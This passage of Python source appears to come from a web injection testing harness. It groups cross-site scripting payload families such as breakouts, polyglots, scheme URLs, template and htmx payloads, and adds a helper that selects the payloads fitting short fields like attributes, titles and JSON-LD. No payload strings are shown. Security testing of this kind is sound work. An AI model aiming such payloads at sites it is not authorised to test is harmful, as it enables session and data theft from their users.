    "handler-shape": HANDLER_SHAPES,
    "scheme": SCHEME_URLS,
    "url-attribute": OTHER_URL_ATTRIBUTES,
    "mutation": MUTATION,
    "markdown": MARKDOWN,
    "breakout": BREAKOUTS,
    "encoding": ENCODINGS,
    "template": TEMPLATES,
    "htmx": HTMX,
    "css": CSS,
    "polyglot": POLYGLOTS,
}
PAYLOADS: list[str] = _unique([p for family in FAMILIES.values() for p in family])


def fitting(limit: int, *, every: int = 1) -> list[str]:
    """The payloads that fit a field of `limit` characters (after a short label), one in
    `every` of them but always every breakout and polyglot that fits: those aim at the
    places short fields are shown (attributes, <title>, JSON-LD)."""
    always = set(BREAKOUTS) | set(POLYGLOTS)
    return [p for i, p in enumerate(PAYLOADS) if len(p) <= limit and (p in always or i % every == 0)]
